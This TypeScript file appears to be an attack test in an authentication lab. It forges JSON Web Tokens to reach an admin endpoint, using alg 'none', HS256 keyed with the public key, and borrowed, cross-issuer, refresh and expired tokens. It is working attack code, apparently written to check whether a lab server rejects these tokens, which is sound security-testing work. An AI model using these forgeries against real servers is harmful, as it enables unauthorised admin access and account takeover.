/**
 * mallory, an accountant with an ordinary account, wants the admin console. She has her own
 * token, the server's public key (anyone can download it) and an invoice link admin sent her.
 * She tries six tokens that no honest server should accept, each wrong in one way.
 */
import { createHmac } from 'node:crypto';
import { blocked, defineAttack, type LabTarget, postJson, worked } from '@authlab/lab-kit';

const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const claimsOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());

async function signIn(lab: LabTarget, username: string, password: string) {
  const response = await postJson(lab, '/login', { username, password });
  if (!response.ok) throw new Error(`POST /login as ${username} answered ${response.status}`);
  return (await response.json()) as { access_token: string; refresh_token: string };
}

/** Presents `token` at `path`; 200 means it got in. */
async function attempt(lab: LabTarget, what: string, path: string, token: string) {
  const response = await fetch(`${lab.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { what, path, status: response.status };
}

export default defineAttack({
  title: 'get into /api/admin with forged or borrowed tokens, and reuse a leaked token after it expired',
  why: "the server lets the token's header choose the algorithm, and never checks aud, iss, typ or exp",
  async run(lab) {
    // Her own token shows the shape of a real one: the same iss, aud and exp, with sub "admin".
    const { access_token: mine, refresh_token: mineRefresh } = await signIn(
      lab,
      'mallory',
      'mallory-also-in-accounting',
    );
    const asAdmin = base64url({ ...claimsOf(mine), sub: 'admin' });
    const publicKeyPem = await (await fetch(`${lab.url}/public-key`)).text();

    const none = `${base64url({ alg: 'none', typ: 'at+jwt' })}.${asAdmin}.`;
    const hs256Input = `${base64url({ alg: 'HS256', typ: 'at+jwt' })}.${asAdmin}`;
    const hs256 = `${hs256Input}.${createHmac('sha256', publicKeyPem).update(hs256Input).digest('base64url')}`;
    const fromInvoiceLink = new URL(String(lab.info.invoiceLink)).searchParams.get('token') ?? '';

    // Each of these differs from a genuine access token in one thing only: alg, aud, iss, typ.
    const results = [
      await attempt(lab, 'alg "none", no signature', '/api/admin', none),
      await attempt(lab, 'HS256 keyed with the public key', '/api/admin', hs256),
      await attempt(lab, "admin's invoice-link token (made for billing)", '/api/admin', fromInvoiceLink),
      await attempt(
        lab,
        "the staging server's admin token (iss …/staging)",
        '/api/admin',
        String(lab.info.stagingToken),
      ),
      await attempt(lab, 'her own refresh token (typ refresh+jwt) as an access token', '/api/me', mineRefresh),
    ];

    // alice's token ended up in a HAR file attached to a support ticket. (The attack signs in as
    // alice only to stand in for her browser; mallory never learns the password.) An hour later:
    const { access_token: leaked } = await signIn(lab, 'alice', 'alice-in-accounting');
    await lab.advanceClock(60 * 60 * 1000);
    results.push(await attempt(lab, "alice's leaked token, 45 min past exp", '/api/me', leaked));

    const accepted = results.filter((result) => result.status === 200);
    const list = (items: typeof results) => items.map((r) => `${r.what} → ${r.path} ${r.status}`).join('; ');
    return accepted.length > 0
      ? worked(`${accepted.length} of ${results.length} got in: ${list(accepted)}`)
      : blocked(`all ${results.length} were refused: ${list(results)}`);
  },
});
